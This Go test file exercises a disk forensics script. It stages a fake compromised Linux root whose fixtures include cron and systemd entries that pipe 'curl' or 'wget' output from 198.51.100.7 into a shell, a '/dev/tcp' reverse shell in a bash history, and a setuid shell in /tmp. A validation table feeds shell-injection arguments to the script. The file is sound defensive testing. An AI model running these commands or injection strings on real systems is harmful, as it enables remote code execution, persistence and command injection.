package ssmdocuments

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/casefile-forensics/casefile/internal/testenv"
)

const (
	evidenceVolume  = "vol-0123456789abcdef0"
	evidenceVolume2 = "vol-0fedcba9876543210"
)

// diskResults is the part of the disk script's results.json the tests read.
type diskResults struct {
	Schema     string `json:"schema"`
	Status     string `json:"status"`
	ForensicID string `json:"forensicId"`
	StartedAt  string `json:"startedAt"`
	EndedAt    string `json:"endedAt"`
	Devices    []struct {
		Evidence       string `json:"evidence"`
		SizeBytes      int64  `json:"sizeBytes"`
		SHA256         string `json:"sha256"`
		ReadOnly       bool   `json:"readOnly"`
		PartitionTable string `json:"partitionTable"`
		Partitions     []struct {
			Name            string  `json:"name"`
			ReadOnly        bool    `json:"readOnly"`
			Filesystem      *string `json:"filesystem"`
			Mounted         bool    `json:"mounted"`
			MountOptions    *string `json:"mountOptions"`
			TimelineSource  *string `json:"timelineSource"`
			Analysis        string  `json:"analysis"`
			BodyfileEntries int     `json:"bodyfileEntries"`
			InventoryFiles  int     `json:"inventoryFiles"`
		} `json:"partitions"`
	} `json:"devices"`
	Findings []struct {
		ID        string `json:"id"`
		Severity  string `json:"severity"`
		Evidence  string `json:"evidence"`
		Partition string `json:"partition"`
		Path      string `json:"path"`
	} `json:"findings"`
	Tools  map[string]*string `json:"tools"`
	Errors []struct {
		Step    string `json:"step"`
		Message string `json:"message"`
	} `json:"errors"`
}

// findingPaths maps each finding ID to the paths it names.
func (r diskResults) findingPaths() map[string][]string {
	out := map[string][]string{}
	for _, f := range r.Findings {
		out[f.ID] = append(out[f.ID], f.Path)
	}
	return out
}

// stageSuspectRoot lays out a small Linux root with planted persistence and
// returns its folder and the staged content of a few files.
func stageSuspectRoot(t *testing.T) (string, map[string]string) {
	t.Helper()
	root := filepath.Join(t.TempDir(), "root")
	dash, err := os.ReadFile("/bin/dash")
	if err != nil {
		dash, err = os.ReadFile("/bin/sh")
	}
	require.NoError(t, err, "a shell binary to plant")
	files := map[string]string{
		"etc/cron.d/backdoor":                "* * * * * root curl -s http://198.51.100.7/x.sh | sh\n",
		"etc/cron.d/logrotate":               "# rotate\n0 1 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
		"var/spool/cron/crontabs/root":       "*/5 * * * * /usr/local/bin/backup\n",
		"root/.ssh/authorized_keys":          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk6cDJ1bW15a2V5 attacker@c2\n",
		"root/.bash_history":                 "ls\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nhistory -c\n",
		"home/alice/.bash_history":           "ls -la\nvim notes.txt\n",
		"etc/systemd/system/updater.service": "[Service]\nExecStart=/bin/bash -c 'curl -s http://198.51.100.7/u | bash'\n",
		"var/log/auth.log":                   "Jan  1 00:00:00 host sshd[1]: Accepted publickey for root from 198.51.100.7\n",
		"etc/passwd":                         "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
	}
	for p, text := range files {
		writeFile(t, filepath.Join(root, p), text, 0o644)
	}
	writeFile(t, filepath.Join(root, "bin/dash"), string(dash), 0o755)
	writeFile(t, filepath.Join(root, "tmp/.rootsh"), string(dash), 0o755)
	require.NoError(t, os.Chmod(filepath.Join(root, "tmp/.rootsh"), os.ModeSetuid|0o755))
	// A symbolic link out of the evidence: it must never be followed.
	require.NoError(t, os.MkdirAll(filepath.Join(root, "home/alice/.ssh"), 0o700))
	require.NoError(t, os.Symlink("/etc/shadow", filepath.Join(root, "home/alice/.ssh/authorized_keys")))
	return root, files
}

// buildExt4 makes an ext4 image of the staged folder with mke2fs -d (no mount).
func buildExt4(t *testing.T, root, image string, sizeMiB int) {
	t.Helper()
	mustRun(t, "truncate", "-s", fmt.Sprintf("%dM", sizeMiB), image)
	mustRun(t, "mke2fs", "-q", "-F", "-t", "ext4", "-d", root, image)
}

// loopPartition matches a loop device or one of its partitions.
var loopPartition = regexp.MustCompile(`^/dev/(loop[0-9]+)(p[0-9]+)?$`)

// mountsOf returns the mounts under a disk script's run folder whose loop
// device reads image. Other tests (the end-to-end ones run beside these)
// have mounts of their own there; those are not this run's to check.
func mountsOf(t *testing.T, image string) []string {
	t.Helper()
	abs, err := filepath.Abs(image)
	require.NoError(t, err)
	mounts, err := os.ReadFile("/proc/self/mounts")
	require.NoError(t, err)
	var out []string
	for _, line := range strings.Split(string(mounts), "\n") {
		fields := strings.Fields(line)
		if len(fields) < 2 || !strings.Contains(fields[1], "/casefile-disk.") {
			continue
		}
		if readsImage(fields[0], abs) {
			out = append(out, line)
		}
	}
	return out
}

// readsImage reports whether device is a loop device over image, one of
// its partitions, or a device-mapper device (an LVM volume) built on one;
// a device it cannot trace counts as reading it.
func readsImage(device, image string) bool {
	loops := []string{}
	if m := loopPartition.FindStringSubmatch(device); m != nil {
		loops = append(loops, m[1])
	} else {
		dev, err := filepath.EvalSymlinks(device)
		if err != nil {
			return true
		}
		slaves, err := os.ReadDir("/sys/block/" + filepath.Base(dev) + "/slaves")
		if err != nil {
			return true
		}
		for _, sl := range slaves {
			if m := loopPartition.FindStringSubmatch("/dev/" + sl.Name()); m != nil {
				loops = append(loops, m[1])
			}
		}
	}
	for _, loop := range loops {
		backing, err := os.ReadFile("/sys/block/" + loop + "/loop/backing_file")
		if err != nil || strings.TrimSpace(string(backing)) == image {
			return true
		}
	}
	return len(loops) == 0
}

// assertNothingLeft checks that the run detached its loop devices,
// unmounted everything, and did not leave its read-only policy on the loop
// devices it used: the next ones attached read-write must be writable.
func assertNothingLeft(t *testing.T, image string) {
	t.Helper()
	assert.Empty(t, strings.TrimSpace(mustRun(t, "losetup", "-j", image)), "no loop device left on %s", image)
	assert.Empty(t, mountsOf(t, image), "no mount of %s left under a run folder", image)
	scratch := filepath.Join(t.TempDir(), "rw.img")
	mustRun(t, "truncate", "-s", "1M", scratch)
	for i := 0; i < 3; i++ {
		dev := strings.TrimSpace(mustRun(t, "losetup", "--find", "--show", scratch))
		defer run(t, nil, "losetup", "-d", dev)
		assert.Equal(t, "0", strings.TrimSpace(mustRun(t, "blockdev", "--getro", dev)), "%s attached read-write is writable", dev)
	}
}

func TestDiskForensicsLocalExt4(t *testing.T) {
	requireRoot(t)
	requireTools(t, "mke2fs", "losetup", "blockdev", "sfdisk", "blkid", "fls", "mactime", "icat", "jq", "python3")
	root, staged := stageSuspectRoot(t)
	image := filepath.Join(t.TempDir(), "evidence.img")
	buildExt4(t, root, image, 32)
	before := sha256File(t, image)
	out := filepath.Join(t.TempDir(), "out")

	r := run(t, nil, "bash", script(t, "disk-forensics.sh"), "--local", "--device", image,
		"--evidence-id", evidenceVolume, "--output-dir", out, "--forensic-id", "case-ext4")

	require.Equal(t, 0, r.code, "exit code; stderr:\n%s", r.stderr)
	assert.Equal(t, before, sha256File(t, image), "the evidence image is unchanged")
	assertNothingLeft(t, image)
	assert.Contains(t, r.lastLine(), `"status":"SUCCEEDED"`, "one-line summary")

	var res diskResults
	readJSON(t, filepath.Join(out, ResultsFileName), &res)
	assert.Equal(t, "SUCCEEDED", res.Status)
	assert.Equal(t, "casefile.disk-results/v1", res.Schema)
	assert.Equal(t, "case-ext4", res.ForensicID)
	assert.NotEmpty(t, res.StartedAt)
	assert.NotEmpty(t, res.EndedAt)
	assert.Empty(t, res.Errors)
	require.Len(t, res.Devices, 1)
	dev := res.Devices[0]
	assert.Equal(t, evidenceVolume, dev.Evidence)
	assert.Equal(t, before, dev.SHA256, "the device hash is the image's")
	assert.True(t, dev.ReadOnly, "device read-only")
	assert.Equal(t, "none", dev.PartitionTable)
	require.Len(t, dev.Partitions, 1)
	fs := dev.Partitions[0]
	require.NotNil(t, fs.Filesystem)
	assert.Equal(t, "ext4", *fs.Filesystem)
	assert.True(t, fs.Mounted, "mounted read-only")
	require.NotNil(t, fs.MountOptions)
	assert.Subset(t, strings.Split(*fs.MountOptions, ","), []string{"ro", "noload", "noexec", "nodev", "nosuid"})
	require.NotNil(t, fs.TimelineSource)
	assert.Equal(t, "sleuthkit", *fs.TimelineSource)
	assert.Greater(t, fs.BodyfileEntries, 10)
	assert.Greater(t, fs.InventoryFiles, 8)
	for _, tool := range []string{"fls", "mactime", "icat", "python3"} {
		assert.NotNil(t, res.Tools[tool], "version of %s recorded", tool)
	}

	findings := res.findingPaths()
	assert.Contains(t, findings["SUID_SHELL"], "/tmp/.rootsh")
	assert.Contains(t, findings["CRON_SUSPICIOUS"], "/etc/cron.d/backdoor")
	assert.NotContains(t, findings["CRON_SUSPICIOUS"], "/etc/cron.d/logrotate")
	assert.Contains(t, findings["CRON_ENTRY"], "/var/spool/cron/crontabs/root")
	assert.Contains(t, findings["AUTHORIZED_KEYS"], "/root/.ssh/authorized_keys")
	assert.Contains(t, findings["HISTORY_SUSPICIOUS"], "/root/.bash_history")
	assert.NotContains(t, findings["HISTORY_SUSPICIOUS"], "/home/alice/.bash_history")
	assert.Contains(t, findings["SYSTEMD_SUSPICIOUS"], "/etc/systemd/system/updater.service")
	assert.Contains(t, findings["TEMP_EXECUTABLE"], "/tmp/.rootsh")
	assert.NotContains(t, findings["TEMP_EXECUTABLE"], "/bin/dash", "executables outside temporary folders")

	part := filepath.Join(out, evidenceVolume, "disk")
	for _, p := range []string{"etc/cron.d/backdoor", "root/.ssh/authorized_keys", "root/.bash_history", "var/log/auth.log", "etc/passwd"} {
		got, err := os.ReadFile(filepath.Join(part, "artifacts", p))
		if assert.NoError(t, err, "artifact %s copied", p) {
			assert.Equal(t, staged[p], string(got), "artifact %s content", p)
		}
	}
	assert.NoFileExists(t, filepath.Join(part, "artifacts/home/alice/.ssh/authorized_keys"), "a symbolic link is never followed")
	timeline, err := os.ReadFile(filepath.Join(part, "timeline.csv"))
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(timeline), "Date,Size,Type,Mode,UID,GID,Meta,File Name"), "mactime CSV header")
	assert.Contains(t, string(timeline), "/tmp/.rootsh")
	suid, err := os.ReadFile(filepath.Join(part, "suid-sgid.jsonl"))
	require.NoError(t, err)
	assert.Contains(t, string(suid), `"path": "/tmp/.rootsh"`)
	inventory, err := os.ReadFile(filepath.Join(part, "inventory.jsonl"))
	require.NoError(t, err)
	assert.Contains(t, string(inventory), `"sha256": "`+sha256File(t, filepath.Join(root, "tmp/.rootsh"))+`"`, "inventory hashes files")

	m := assertManifest(t, out)
	body, ok := manifestEntry(m, evidenceVolume+"/disk/bodyfile.txt")
	require.True(t, ok, "bodyfile in the manifest")
	assert.Equal(t, "fls", body.Tool)
	assert.NotEmpty(t, body.ToolVersion)
	assert.Equal(t, evidenceVolume, body.Evidence)
	art, ok := manifestEntry(m, evidenceVolume+"/disk/artifacts/etc/cron.d/backdoor")
	require.True(t, ok, "artifact in the manifest")
	assert.Equal(t, "icat", art.Tool)
	assert.Equal(t, "/etc/cron.d/backdoor", art.Source)
	_, ok = manifestEntry(m, ResultsFileName)
	assert.True(t, ok, "results.json in the manifest")
}

func TestDiskForensicsLocalPartitionedImage(t *testing.T) {
	requireRoot(t)
	requireTools(t, "mke2fs", "mkfs.xfs", "mkfs.vfat", "mkntfs", "sfdisk", "losetup", "blockdev", "blkid",
		"fls", "mactime", "icat", "jq", "python3", "mount", "umount")
	root, _ := stageSuspectRoot(t)
	dir := t.TempDir()

	p1 := filepath.Join(dir, "p1.fs")
	buildExt4(t, root, p1, 20)
	p2 := filepath.Join(dir, "p2.fs")
	mustRun(t, "truncate", "-s", "300M", p2)
	mustRun(t, "mkfs.xfs", "-q", p2)
	populateXFS(t, p2, dir)
	p3 := filepath.Join(dir, "p3.fs")
	mustRun(t, "truncate", "-s", "16M", p3)
	mustRun(t, "mkfs.vfat", p3)
	p4 := filepath.Join(dir, "p4.fs")
	mustRun(t, "truncate", "-s", "16M", p4)
	mustRun(t, "mkntfs", "-q", "-F", "-f", p4)

	image := filepath.Join(dir, "disk.img")
	mustRun(t, "truncate", "-s", "400M", image)
	layout := "label: gpt\nstart=2048,size=40960,type=L\nstart=43008,size=614400,type=L\n" +
		"start=657408,size=32768,type=L\nstart=690176,size=32768,type=L\n"
	sfdisk := run(t, nil, "bash", "-c", `printf '%s' "$1" | sfdisk -q "$2"`, "_", layout, image)
	require.Equal(t, 0, sfdisk.code, sfdisk.stderr)
	for i, start := range []int{2048, 43008, 657408, 690176} {
		mustRun(t, "dd", "if="+filepath.Join(dir, fmt.Sprintf("p%d.fs", i+1)), "of="+image, "bs=512",
			fmt.Sprintf("seek=%d", start), "conv=notrunc", "status=none")
	}
	before := sha256File(t, image)
	out := filepath.Join(dir, "out")

	r := run(t, nil, "bash", script(t, "disk-forensics.sh"), "--local", "--device", image,
		"--evidence-id", evidenceVolume2, "--output-dir", out)

	require.Equal(t, 0, r.code, "exit code; stderr:\n%s", r.stderr)
	assert.Equal(t, before, sha256File(t, image), "the evidence image is unchanged")
	assertNothingLeft(t, image)
	var res diskResults
	readJSON(t, filepath.Join(out, ResultsFileName), &res)
	assert.Equal(t, "SUCCEEDED", res.Status)
	require.Len(t, res.Devices, 1)
	dev := res.Devices[0]
	assert.Equal(t, before, dev.SHA256)
	assert.Equal(t, "gpt", dev.PartitionTable)
	require.Len(t, dev.Partitions, 4)
	wantFS := []string{"ext4", "xfs", "vfat", "ntfs"}
	for i, p := range dev.Partitions {
		assert.Equal(t, fmt.Sprintf("p%d", i+1), p.Name)
		assert.True(t, p.ReadOnly, "%s read-only", p.Name)
		require.NotNil(t, p.Filesystem, "%s file system", p.Name)
		assert.Equal(t, wantFS[i], *p.Filesystem, "%s file system", p.Name)
		assert.Greater(t, p.BodyfileEntries, 0, "%s has a timeline (mounted or Sleuth Kit fallback)", p.Name)
		if p.Mounted {
			require.NotNil(t, p.MountOptions)
			assert.Contains(t, strings.Split(*p.MountOptions, ","), "ro", "%s mounted read-only", p.Name)
		} else {
			assert.Equal(t, "sleuthkit-only", p.Analysis, "%s falls back to the Sleuth Kit", p.Name)
		}
	}
	xfs := dev.Partitions[1]
	assert.True(t, xfs.Mounted, "XFS mounted")
	if xfs.MountOptions != nil {
		assert.Subset(t, strings.Split(*xfs.MountOptions, ","), []string{"ro", "norecovery", "nouuid"})
	}
	findings := res.findingPaths()
	assert.Contains(t, findings["SUID_SHELL"], "/tmp/.rootsh", "ext4 partition")
	assert.Contains(t, findings["CRON_SUSPICIOUS"], "/etc/cron.d/xfs-backdoor", "XFS partition")
	assertManifest(t, out)
}

// TestDiskForensicsLocalTwoDisks runs one pass over two evidence disks, as
// the SSM mode does for a case with two snapshots: one results.json and one
// manifest.json at the top, each disk's files in its volume's folder.
func TestDiskForensicsLocalTwoDisks(t *testing.T) {
	requireRoot(t)
	requireTools(t, "mke2fs", "losetup", "blockdev", "sfdisk", "blkid", "fls", "mactime", "icat", "jq", "python3")
	root, _ := stageSuspectRoot(t)
	dir := t.TempDir()
	first := filepath.Join(dir, "root-disk.img")
	buildExt4(t, root, first, 24)
	dataRoot := filepath.Join(dir, "data")
	writeFile(t, filepath.Join(dataRoot, "srv/app/config.yml"), "listen: 0.0.0.0:8080\n", 0o644)
	second := filepath.Join(dir, "data-disk.img")
	buildExt4(t, dataRoot, second, 8)
	want := map[string]string{evidenceVolume: sha256File(t, first), evidenceVolume2: sha256File(t, second)}
	out := filepath.Join(dir, "out")

	r := run(t, nil, "bash", script(t, "disk-forensics.sh"), "--local",
		"--device", first, "--evidence-id", evidenceVolume,
		"--device", second, "--evidence-id", evidenceVolume2, "--output-dir", out)

	require.Equal(t, 0, r.code, "exit code; stderr:\n%s", r.stderr)
	assert.Equal(t, want[evidenceVolume], sha256File(t, first), "the first image is unchanged")
	assert.Equal(t, want[evidenceVolume2], sha256File(t, second), "the second image is unchanged")
	assertNothingLeft(t, first)
	assertNothingLeft(t, second)
	var res diskResults
	readJSON(t, filepath.Join(out, ResultsFileName), &res)
	assert.Equal(t, "SUCCEEDED", res.Status)
	got := map[string]string{}
	for _, d := range res.Devices {
		got[d.Evidence] = d.SHA256
	}
	assert.Equal(t, want, got, "one device per evidence volume, each with its image's hash")
	findings := res.findingPaths()
	assert.Contains(t, findings["SUID_SHELL"], "/tmp/.rootsh", "the first disk's findings")
	m := assertManifest(t, out)
	for _, key := range []string{evidenceVolume + "/disk/bodyfile.txt", evidenceVolume2 + "/disk/bodyfile.txt"} {
		_, ok := manifestEntry(m, key)
		assert.True(t, ok, "%s in the one manifest", key)
	}
	assert.NoFileExists(t, filepath.Join(out, evidenceVolume, ManifestFileName), "no manifest per disk")
}

// populateXFS puts a planted cron entry on an XFS image. mkfs.xfs cannot
// copy a folder in, so this mounts the image (it is not evidence yet).
func populateXFS(t *testing.T, image, dir string) {
	t.Helper()
	mnt := filepath.Join(dir, "xfs-mnt")
	require.NoError(t, os.MkdirAll(mnt, 0o755))
	r := run(t, nil, "mount", "-o", "loop", image, mnt)
	if r.code != 0 {
		testenv.Missing(t, "cannot mount XFS here to build the image: %s", r.stderr)
	}
	defer mustRun(t, "umount", mnt)
	writeFile(t, filepath.Join(mnt, "etc/cron.d/xfs-backdoor"), "@reboot root wget -qO- http://198.51.100.7/x | sh\n", 0o644)
}

func TestDiskForensicsRejectsBadArguments(t *testing.T) {
	requireTools(t, "jq")
	dir := t.TempDir()
	image := filepath.Join(dir, "x.img")
	writeFile(t, image, "not a file system", 0o600)
	full := filepath.Join(dir, "full")
	writeFile(t, filepath.Join(full, "x"), "x", 0o600)
	marker := filepath.Join(dir, "pwned")
	ssm := func(override ...string) []string {
		args := map[string]string{
			"--forensic-id": "case-001", "--volume-ids": evidenceVolume, "--results-bucket": "results-bucket",
			"--results-prefix": "cases/case-001/disk/", "--kms-key-arn": "arn:aws:kms:eu-west-1:123456789012:key/k-1",
		}
		for i := 0; i+1 < len(override); i += 2 {
			args[override[i]] = override[i+1]
		}
		var out []string
		for k, v := range args {
			out = append(out, k, v)
		}
		return out
	}
	tests := []struct {
		name    string
		args    []string
		wantMsg string // in the usage error; "" for any
	}{
		{"no arguments", nil, "--forensic-id is required"},
		{"unknown argument", []string{"--format-disk"}, "unknown argument"},
		{"quote in forensic ID", ssm("--forensic-id", "x'; touch "+marker+" #"), "--forensic-id does not match"},
		{"command substitution in volume IDs", ssm("--volume-ids", "vol-0123456789abcdef0$(touch "+marker+")"), "--volume-ids does not match"},
		{"device name instead of volume ID", ssm("--volume-ids", "/dev/sdf"), "--volume-ids does not match"},
		{"space in prefix", ssm("--results-prefix", "cases/a b"), "--results-prefix does not match"},
		{"dot-dot in prefix", ssm("--results-prefix", "cases/../other"), "--results-prefix must not contain '..'"},
		{"bad KMS ARN", ssm("--kms-key-arn", "arn:aws:kms:eu-west-1:123456789012:key/`id`"), "--kms-key-arn does not match"},
		{"local with a bad S3 parameter", []string{"--local", "--device", image, "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o1"), "--results-prefix", "cases/../other"}, "--results-prefix must not contain '..'"},
		{"local with volume IDs", []string{"--local", "--device", image, "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o1"), "--volume-ids", evidenceVolume}, "--volume-ids is not used with --local"},
		{"local without device", []string{"--local", "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o2")}, "--device is required"},
		{"local bad evidence ID", []string{"--local", "--device", image, "--evidence-id", "vol-xyz", "--output-dir", filepath.Join(dir, "o3")}, "--evidence-id does not match"},
		{"local missing device", []string{"--local", "--device", filepath.Join(dir, "missing.img"), "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o4")}, "--device must be"},
		{"local output folder not empty", []string{"--local", "--device", image, "--evidence-id", evidenceVolume, "--output-dir", full}, "--output-dir must be empty"},
		{"local device without evidence ID", []string{"--local", "--device", image, "--evidence-id", evidenceVolume, "--device", image, "--output-dir", filepath.Join(dir, "o6")}, "--device and --evidence-id must come in pairs (2 --device, 1 --evidence-id)"},
		{"local evidence ID twice", []string{"--local", "--device", image, "--evidence-id", evidenceVolume, "--device", image, "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o7")}, "--evidence-id " + evidenceVolume + " is given twice"},
		{"local path with metacharacters", []string{"--local", "--device", image + ";id", "--evidence-id", evidenceVolume, "--output-dir", filepath.Join(dir, "o5")}, "--device does not match"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := run(t, nil, "bash", append([]string{script(t, "disk-forensics.sh")}, tt.args...)...)
			assert.Equal(t, 2, r.code, "exit code; stderr: %s", r.stderr)
			assert.Contains(t, r.stderr, "usage error: "+tt.wantMsg)
			assert.NoFileExists(t, marker, "nothing ran")
		})
	}
}
